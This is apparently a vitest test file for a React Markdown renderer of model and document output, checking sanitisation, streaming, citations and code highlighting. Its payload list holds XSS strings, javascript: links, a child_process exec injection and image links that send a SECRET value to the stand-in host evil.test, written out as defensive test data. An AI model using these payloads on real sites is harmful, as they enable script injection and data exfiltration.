import fc from "fast-check";
import type { ReactNode } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import ReactMarkdown from "react-markdown";
import remarkGfm from "remark-gfm";
import { describe, expect, it, vi } from "vitest";
import { UiProvider } from "../UiProvider.tsx";
import { Markdown, type MarkdownProps } from "./Markdown.tsx";
import { splitBlocks } from "./splitBlocks.ts";
import { loadHighlighter } from "./useHighlight.ts";

function render(text: string, more: Partial<MarkdownProps> = {}): string {
  return renderToStaticMarkup(
    <UiProvider>
      <Markdown text={text} onOpenLink={() => undefined} {...more} />
    </UiProvider>,
  );
}

const pixel = "data:image/png;base64,iVBORw0KGgo=";

/** What peers of this kind of program were attacked with, and the usual ways past a filter. */
const payloads: readonly string[] = [
  "<script>alert(1)</script>",
  "a <script src=https://evil.test/x.js></script> b",
  "<ScRiPt\n>alert(1)</sCrIpT >",
  "<img src=x onerror=alert(1)>",
  `![" onerror="require('child_process').exec('x')](x)`,
  `![x](https://evil.test/a.png" onerror="alert(1))`,
  `[x](https://evil.test "x\\" onmouseover=\\"alert(1)")`,
  "![x](https://evil.test/?d=SECRET)",
  "![x][1]\n\n[1]: https://evil.test/?d=SECRET",
  "[![x](https://evil.test/p.png)](https://evil.test/l)",
  "![x](//evil.test/p.png) ![y](/p.png) ![z](file:///etc/passwd)",
  "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java\tscript:alert(1))",
  "[d](&#106;avascript:alert(1)) [e](javascript&colon;alert(1)) [f](\u0001javascript:alert(1))",
  "<javascript:alert(1)>",
  "[g](vbscript:x) [h](file:///etc/passwd) [i](hearth://run?x) [j](blob:https://a.test/1)",
  "[k](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "![l](data:text/html,<script>alert(1)</script>) ![m](data:image/svg+xml;base64,PHN2Zz4=)",
  `![ok](${pixel}) then ![n](data:image/png;base64,x"onerror=alert(1))`,
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>',
  "<div\n\n<b onmouseover=alert(1)>\n\n</div>",
  '<style>@import "https://evil.test/x.css"; body{background:url(https://evil.test/y)}</style>',
  '<p style="background:url(https://evil.test/z)">x</p>',
  '<iframe src="https://evil.test" srcdoc="<script>alert(1)</script>"></iframe>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test"><base href="https://evil.test">',
  '<link rel=stylesheet href="https://evil.test/x.css"><link rel=dns-prefetch href=//evil.test>',
  '<form action="https://evil.test"><input name=q><button formaction="javascript:alert(1)">',
  '<object data="https://evil.test/x.swf"></object><embed src="https://evil.test">',
  '<video src="https://evil.test/v" poster="https://evil.test/p" autoplay></video><audio src=x>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<!-- --><img src=x onerror=alert(1)><!-- -->",
  "<![CDATA[<script>alert(1)</script>]]> <?php x ?> <!DOCTYPE html>",
  "```html\n<img src=x onerror=alert(1)>\n```\n\n<img src=x onerror=alert(2)>",
  '```js onerror=alert(1) " class=x\nalert(1)\n```',
  '~~~"><img src=x onerror=alert(1)>\ncode\n~~~',
  "`<img src=x onerror=alert(1)>` and ``` ` <svg onload=alert(1)> ` ```",
  "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | ![x](https://evil.test/t) |",
  "[^1]\n\n[^1]: <img src=x onerror=alert(1)> ![x](https://evil.test/f)",
  "- [ ] <img src=x onerror=alert(1)>\n- [x] ![x](https://evil.test/c)",
  "The moon is far.[1]\n\n[1]: https://evil.test/?d=SECRET",
  "www.evil.test and https://evil.test/auto and me@evil.test",
  "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= x %>",
  "\u202Ehttps://evil.test\u202C \u0000<img\u0000 src=x onerror=alert(1)>",
];

const elements = new Set(
  `p div span a br hr ul ol li blockquote strong em del code pre figure figcaption button svg path
  rect circle line polyline polygon h3 h4 h5 h6 table thead tbody tr th td sup sub section img ol
  input`.split(/\s+/),
);

/** Fails unless every tag in the markup is known and no attribute can load, lead or run. */
function expectHarmless(html: string): void {
  const outside = html.replaceAll(
    /<(\/?)([a-z][a-z\d]*)((?:\s+[a-z][a-z\d:-]*(?:="[^"]*")?)*)\s*\/?>/gi,
    (_tag, _close, name: string, attributes: string) => {
      expect(elements, `<${name}> in ${html}`).toContain(name.toLowerCase());
      for (const [, attribute = "", value = ""] of attributes.matchAll(
        /([a-z][a-z\d:-]*)(?:="([^"]*)")?/gi,
      )) {
        expect(attribute, html).not.toMatch(
          /^on|^href$|^xlink|^srcset$|^srcdoc$|^action$|^formaction$|^poster$|^data$/i,
        );
        if (attribute === "src")
          expect(value).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,[A-Za-z\d+/=]*$/);
        if (attribute === "style") expect(value).not.toMatch(/url|expression|@import/i);
      }
      return "";
    },
  );
  // What is left is text; React has escaped every "<" in it.
  expect(outside).not.toContain("<");
}

describe("Markdown from models and documents", () => {
  it.each(payloads)("is harmless at every prefix: %j", (payload) => {
    for (let end = 0; end <= payload.length; end += 1) {
      const text = payload.slice(0, end);
      expectHarmless(render(text, { streaming: true, citations: [1] }));
      expectHarmless(render(text));
    }
  });

  it("is harmless when payloads follow each other", () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...payloads, "\n\n", "\n", "- ", "> ", "    ", "```", "| "), {
          maxLength: 6,
        }),
        (parts) => expectHarmless(render(parts.join("\n"), { streaming: true, citations: [1, 2] })),
      ),
      { numRuns: 60 },
    );
  });

  it("has a check that can fail", () => {
    for (const html of [
      "<script>",
      '<a href="https://evil.test">',
      '<p onclick="x">',
      '<img src="https://evil.test">',
      "<b <",
    ]) {
      expect(() => expectHarmless(html), html).toThrow();
    }
  });

  it("offers only links that may be opened, with the full target shown", () => {
    const html = render(
      "[a](https://example.test/x?y=1) [b](mailto:me@example.test) [c](ftp://x.test)",
    );
    expect(html).toContain('title="Opens https://example.test/x?y=1"');
    expect(html).toContain('title="Opens mailto:me@example.test"');
    expect(html).not.toContain("ftp:");
    expect(render("[x](https://еxample.test)")).toContain("xn--");
  });

  it("shows a picture that is in the text and names one that is not", () => {
    expect(render(`![dot](${pixel})`)).toContain(`src="${pixel}"`);
    const remote = render("![A chart](https://example.test/c.png)");
    expect(remote).not.toContain("<img");
    expect(remote).toContain("Image, not loaded: A chart");
    expect(remote).toContain("https://example.test/c.png");
  });

  it("survives text that is nested thousands deep", () => {
    const quiet = vi.spyOn(console, "warn").mockImplementation(() => undefined);
    for (const text of [
      "> ".repeat(5_000),
      "- ".repeat(3_000),
      "*a _b ".repeat(3_000),
      "[".repeat(5_000),
      "![".repeat(3_000),
    ]) {
      expectHarmless(render(`${text}x`));
    }
    quiet.mockRestore();
  });
});

describe("a text that is still coming", () => {
  const sample = `# Title

Some **bold and _nested_ words** with \`code\` and [a link](https://example.test/path).
Here is a list:
- one **two**
- three
  1. four

  still three

| name | value |
|:-----|------:|
| a    | 1     |

~~~~python
print("\`\`\`")
~~~~

- item

  \`\`\`js
  const x = 1;

  done()
  \`\`\`

Last [1], made up [9].`;

  it("never throws and never shows a half mark as a heading, at any prefix", () => {
    for (let end = 0; end <= sample.length; end += 1) {
      const html = render(sample.slice(0, end), { streaming: true, citations: [1] });
      // "Here is a list:\n-" would otherwise be a heading for one step.
      expect(html).not.toMatch(/<h4[^>]*>(?:(?!<\/h4>).)*list/);
    }
  });

  it("shows no stray marks at its end", () => {
    const end = (text: string): string => render(text, { streaming: true, citations: [1] });
    expect(end("so **very")).toContain("<strong>very</strong>");
    expect(end("so **very*")).toContain("<strong>very</strong>");
    expect(end("so **")).not.toContain("*");
    expect(end("use `npm i")).toContain("<code>npm i</code>");
    expect(end("see [the page](https://exa")).toContain("see the page");
    expect(end("far [1")).not.toContain("[");
    expect(end("| a | b")).not.toContain("|");
    expect(end("5 * 3 is")).toContain("5 * 3 is");
  });

  it("keeps a half-open fence as code and takes nothing from it", () => {
    const html = render("```js\nconst a = `x` * **2", { streaming: true });
    expect(html).toContain("const a = `x` * **2");
    expect(html).toContain("<pre");
  });

  it("only changes its last block", () => {
    let before: readonly string[] = [];
    for (let end = 0; end <= sample.length; end += 1) {
      const { blocks } = splitBlocks(sample.slice(0, end));
      const kept = before.slice(0, -1);
      // A cut may be taken back only by the line that is coming, so the one before last may grow.
      expect(blocks.slice(0, Math.max(0, kept.length - 1))).toEqual(kept.slice(0, -1));
      before = blocks;
    }
  });

  it("comes out as if it had been read in one piece", () => {
    const whole = (text: string): string =>
      renderToStaticMarkup(<ReactMarkdown remarkPlugins={[remarkGfm]}>{text}</ReactMarkdown>);
    const inParts = (text: string): string => {
      const { blocks, definitions } = splitBlocks(text);
      return blocks.map((block) => whole(`${definitions}\n\n${block}`)).join("\n");
    };
    const words = (html: string): string => html.replaceAll(/\s*\n\s*/g, "\n").trim();
    const line = fc.constantFrom(
      "",
      "",
      "",
      "a word",
      "**bold** text",
      "- item",
      "1. first",
      "  more",
      "    deep",
      "# head",
      "> quote",
      "```",
      "```js",
      "  ```",
      "~~~",
      "| a | b |",
      "|---|---|",
      "see [x] and [y][x]",
      "\n[x]: https://x.test",
      "---",
      "* star",
      "`` ` ``",
      "\tindented",
    );
    fc.assert(
      fc.property(fc.array(line, { maxLength: 14 }), (lines) => {
        const text = lines.join("\n");
        expect(words(inParts(text))).toBe(words(whole(text)));
      }),
      { numRuns: 2_000 },
    );
  });

  it("takes no time that would be felt", () => {
    const paragraph = "A sentence with **bold**, `code` and [a link](https://example.test).\n\n";
    const long = paragraph.repeat(1_500);
    const start = performance.now();
    expect(splitBlocks(long).blocks).toHaveLength(1_500);
    expect(performance.now() - start).toBeLessThan(100);
  });
});

describe("citations", () => {
  const marks = (text: string, citations: readonly number[]): string =>
    render(text, {
      citations,
      renderCitation: (number): ReactNode => <sup>cite {number}</sup>,
    });

  it("are made of the numbers that were assigned, and of no others", () => {
    const html = marks("Far [1], near [2][3], made up [7], both [1, 3], mixed [1, 7].", [1, 2, 3]);
    expect(html.match(/cite \d/g)).toEqual(["cite 1", "cite 2", "cite 3", "cite 1", "cite 3"]);
    expect(html).toContain("made up [7]");
    expect(html).toContain("mixed [1, 7]");
  });

  it("stay plain where they are code or the words of a link", () => {
    const html = marks("`a[1]` and [see 1](https://example.test)\n\n```\nx[1]\n```", [1]);
    expect(html).not.toContain("cite");
  });

  it("cannot be turned into links by the text", () => {
    const html = marks(
      "Far [1] and [1][2].\n\n[1]: https://evil.test\n[2]: https://evil.test",
      [1, 2],
    );
    expect(html.match(/cite \d/g)).toEqual(["cite 1", "cite 1", "cite 2"]);
    expect(html).not.toContain("Opens https://evil.test");
  });
});

describe("code", () => {
  it("is coloured once the grammars are there, and copied by a button", async () => {
    await loadHighlighter();
    const html = render("```ts\nconst a = 1;\n```");
    expect(html).toContain('class="hljs-keyword"');
    expect(html).toContain('aria-label="Copy code"');
    expect(render("```nosuchlanguage\nx\n```")).not.toContain("hljs-");
  });
});
